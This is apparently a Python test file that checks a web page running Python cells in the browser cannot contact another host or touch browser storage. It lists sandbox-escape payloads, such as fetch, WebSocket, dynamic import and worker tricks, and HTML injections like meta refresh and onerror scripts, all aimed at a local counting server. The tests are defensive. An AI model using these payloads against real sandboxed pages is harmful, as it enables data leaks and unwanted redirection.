"""What code in a page cannot do, with the policy in the page and no header from the host: reach another host, or spoil the saved copy.

Each attack is a cell that a reader runs. Another host listens on this machine, answers everything with what a browser needs to let a
page read it, and counts each connection.
"""

import http.server
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Locator, Page, expect
from support.copies import Host
from support.waiting import wait_until

pytestmark = pytest.mark.xdist_group("confined")
LONG = 90_000


class Other(http.server.ThreadingHTTPServer):
    """Another host, which would tell everybody everything."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Answer)
        self.connections = 0
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def process_request(self, request: object, client_address: object) -> None:
        """Count the connection: a look at an open port is one as well."""
        self.connections += 1
        super().process_request(request, client_address)  # type: ignore[arg-type]


class _Answer(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        for name, value in (("Content-Type", "text/javascript"), ("Access-Control-Allow-Origin", "*"), ("Content-Length", "0")):
            self.send_header(name, value)
        self.end_headers()

    def log_message(self, *_arguments: object) -> None:
        """Say nothing."""


@pytest.fixture(scope="module")
def other() -> Iterator[Other]:
    """Listen as another host."""
    server = Other()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def host(mini_site: Path) -> Iterator[Host]:
    """Serve the small book without one header of its own."""
    running = Host(mini_site)
    yield running
    running.off()


@pytest.fixture(scope="module")
def context(browser: Browser) -> Iterator[BrowserContext]:
    made = browser.new_context(viewport={"width": 900, "height": 800})
    made.set_default_timeout(30_000)
    yield made
    made.close()


@pytest.fixture(scope="module")
def page(context: BrowserContext, host: Host) -> Page:
    """Open the page with code, and run its cell once."""
    page = context.new_page()
    page.goto(f"{host.address}code.html")
    run(page, "1 + 1")
    return page


def run(page: Page, code: str) -> Locator:
    """Run code in the page's one cell; return its output."""
    place = page.locator(".cell:has(> .cell_input)")
    if not place.locator(".run-editor").count():
        place.get_by_role("button", name="Run cell 1").click()
        expect(place.locator(".run-status")).to_have_text("Done.", timeout=LONG)
    place.locator(".run-editor").fill(code)
    place.get_by_role("button", name="Run cell 1").click()
    wait_until(page, "/^(Done\\.|It ended with an error)/.test(document.querySelector('.run-status').textContent)", seconds=LONG / 1000)
    return place.locator(".run-output")


# Each would reach the address in OTHER, or a file of this host that is none of the site's, or what the browser keeps.
ATTACKS = {
    "fetch": "import js\nawait js.fetch(OTHER)",
    "fetch of a request": "import js\nawait js.fetch(js.Request.new(OTHER))",
    "fetch without reading": "import js\nawait js.eval(f\"fetch('{OTHER}', {{mode: 'no-cors'}})\")",
    "pyfetch": "from pyodide.http import pyfetch\nawait pyfetch(OTHER)",
    "open_url": "from pyodide.http import open_url\nopen_url(OTHER).read()",
    "XMLHttpRequest": "import js\nrequest = js.XMLHttpRequest.new()\nrequest.open('GET', OTHER, False)\nrequest.send()",
    "XMLHttpRequest's prototype": (
        "import js\nrequest = js.XMLHttpRequest.new()\njs.Object.getPrototypeOf(request).open.call(request, 'POST', OTHER, False)\nrequest.send('x')"
    ),
    "WebSocket": "import js\njs.WebSocket.new(OTHER.replace('http', 'ws'))",
    "EventSource": "import js\njs.EventSource.new(OTHER)",
    "WebTransport": "import js\njs.WebTransport.new(OTHER)",
    "importScripts": "import js\njs.importScripts(OTHER)",
    "import": "from pyodide.code import run_js\nawait run_js(f\"import('{OTHER}')\")",
    "import by a function": "import js\nawait js.Function.new(f\"return import('{OTHER}')\")()",
    "import by a blob": (
        "import js\nfrom pyodide.ffi import to_js\nblob = js.Blob.new(to_js([f\"import '{OTHER}'\"]))\n"
        "import pyodide_js\nawait pyodide_js._api.loadScript(js.URL.createObjectURL(blob))"
    ),
    "loadPackage": "import pyodide_js\nawait pyodide_js.loadPackage(f'{OTHER}x-1-py3-none-any.whl', checkIntegrity=False)\nimport x",
    "a worker from a file": "import js\njs.Worker.new(WORKER)",
    "a worker from a blob": "import js\njs.Worker.new(js.URL.createObjectURL(js.Blob.new([f\"fetch('{OTHER}')\"])))",
    "a font": "import js\nawait js.FontFace.new('x', f'url({OTHER})').load()",
    "urllib": "import urllib.request\nurllib.request.urlopen(OTHER).read()",
    "a socket": "import socket\nsocket.create_connection(('127.0.0.1', PORT), timeout=2).send(b'x')",
    "another file of this host": "import js\nrequest = js.XMLHttpRequest.new()\nrequest.open('GET', ROOT + 'elsewhere', False)\nrequest.send()",
    "the saved copy": "import js\nawait js.caches.keys()",
    "the saved copy of another scope": "import js\nawait js.Object.getPrototypeOf(js.self).caches.keys()",
    "a database": "import js\njs.indexedDB.open('x')",
    "files of the browser": "import js\nawait js.navigator.storage.getDirectory()",
    "a word to other pages": "import js\njs.BroadcastChannel.new('x')",
}


@pytest.mark.parametrize("code", ATTACKS.values(), ids=ATTACKS)
def test_python_reaches_no_other_host_and_keeps_nothing(page: Page, host: Host, other: Other, code: str) -> None:
    """The cell ends with an error, nobody was asked, and Python goes on."""
    root = host.address.removesuffix("achilles/")
    worker = page.evaluate("performance.getEntriesByType('resource').find(({ name }) => name.endsWith('/runner.js')).name")
    names = {"OTHER": f"http://127.0.0.1:{other.server_port}/", "PORT": other.server_port, "ROOT": root, "WORKER": worker}
    before = other.connections
    output = run(page, "\n".join([*(f"{name} = {value!r}" for name, value in names.items()), code]))
    expect(output.locator(".run-error")).to_have_count(1)
    page.wait_for_timeout(150)  # a connection that was begun is seen by now
    assert other.connections == before
    expect(run(page, "1 + 1")).to_have_text("2")


MARKUP = {
    "a refresh": '<meta http-equiv="refresh" content="0; url=OTHER">',
    "a name to look up": '<link rel="dns-prefetch" href="OTHER"><link rel="preconnect" href="OTHER">',
    "files to fetch": '<link rel="stylesheet" href="OTHER"><link rel="prefetch" href="OTHER"><link rel="modulepreload" href="OTHER">',
    "pictures and media": '<img src="OTHER" srcset="OTHER 2x"><video src="OTHER" poster="OTHER"></video><div style="background: url(OTHER)">x</div>',
    "frames": '<iframe src="OTHER"></iframe><object data="OTHER"></object><embed src="OTHER"><iframe srcdoc="<img src=OTHER>"></iframe>',
    "scripts": '<script src="OTHER"></script><script>location = "OTHER"</script><img src=x onerror="location = \'OTHER\'">',
    "a drawing": '<svg><foreignObject><meta http-equiv="refresh" content="0; url=OTHER"></foreignObject><image href="OTHER"/></svg>',
    "another base": '<base href="OTHER"><a href="x">x</a>',
}


@pytest.mark.parametrize("markup", MARKUP.values(), ids=MARKUP)
def test_what_a_cell_shows_leads_nowhere_else(page: Page, other: Other, markup: str) -> None:
    """The page stays where it is, and asks nobody."""
    before, address = other.connections, page.url
    html = markup.replace("OTHER", f"http://127.0.0.1:{other.server_port}/")
    output = run(page, f"from IPython.display import HTML, display\ndisplay(HTML({html!r}))\nprint('shown')")
    expect(output).to_contain_text("shown")
    page.wait_for_timeout(300)
    assert (page.url, other.connections) == (address, before)


def test_the_other_host_would_have_been_noticed(other: Other, browser: Browser) -> None:
    """The counter counts: a page without a policy reaches it."""
    page = browser.new_page()
    before = other.connections
    page.evaluate(f"fetch('http://127.0.0.1:{other.server_port}/')")
    assert other.connections == before + 1
    page.close()


def test_display_without_end_ends(page: Page) -> None:
    """The page shows the first 200 pieces and says that there were more."""
    output = run(page, "from IPython.display import HTML, display\nfor number in range(1000):\n    display(HTML(f'<i>{number}</i>'))")
    expect(output.locator("i")).to_have_count(200)
    expect(output).to_contain_text("… and more, which is not shown.")
